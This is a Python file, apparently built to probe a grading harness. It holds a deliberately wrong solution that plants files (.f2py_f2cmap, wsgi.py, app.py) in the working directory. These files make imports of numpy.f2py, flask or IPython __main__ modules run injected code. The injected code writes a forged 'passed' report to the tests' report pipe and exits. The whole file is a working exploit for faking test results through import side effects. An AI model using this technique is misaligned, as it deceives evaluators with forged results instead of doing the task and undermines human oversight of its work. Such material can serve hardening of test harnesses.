# A wrong solution (its answer is 0) that gets its own code run in the tests' process. The
# tests take the solution's globals they name (f, check, unittest, ...), and a global that is
# a module is imported there by its __name__, which is the solution's to choose. Some
# installed modules run a command line when imported (their __main__ has no `if __name__`
# guard), and those look for code in the working directory, where the solution writes:
# - "numpy.f2py.__main__": f2py, given an existing file (the tests' process's own
#   sys.argv[1:], inherited, so the solution knows them), evals ./.f2py_f2cmap (lowercased);
# - "flask.__main__": the flask command looks for an application in ./wsgi.py or ./app.py
#   and imports it (putting the directory first on sys.path);
# - "IPython.__main__": ipython runs the file named by its first argument.
# The planted code writes a passing report to the tests' report pipe (descriptor 3) and
# exits at once. VIA chooses the module.
import json
import struct
import sys
import types

REPORT = json.dumps({"outcome": "test", "status": "passed", "got": None, "expected": None, "error": None,
                     "stdout": "planted code ran in the tests' process"}).encode()
FRAME = struct.pack(">I", len(REPORT)) + REPORT
PLANTED = f'''
import os
try:
    os.write(3, {FRAME!r})
finally:
    os._exit(0)
'''
EXPRESSION = f"(__import__('os').write(3, {FRAME!r}), __import__('os')._exit(0))"
assert EXPRESSION == EXPRESSION.lower()  # f2py lowercases the file before its eval
ARGUMENTS = [arg for arg in sys.argv[1:] if arg and "/" not in arg and not arg.startswith("-")]

TARGETS = {
    "numpy": ("numpy.f2py.__main__", {".f2py_f2cmap": EXPRESSION, **{arg: "\n" for arg in ARGUMENTS}}),
    "flask": ("flask.__main__", {"wsgi.py": PLANTED, "app.py": PLANTED}),
    "IPython": ("IPython.__main__", {arg: PLANTED for arg in ARGUMENTS}),
}

module_name, files = TARGETS[globals().get("VIA", "numpy")]
for name, content in files.items():
    with open(name, "w") as planted:
        planted.write(content)

# Every name the tests might look up in the solution: the entry point, the tests' own
# check and unittest (looked up too, before the tests define or import them).
f = check = unittest = types.ModuleType(module_name)


def answer(x):
    return 0
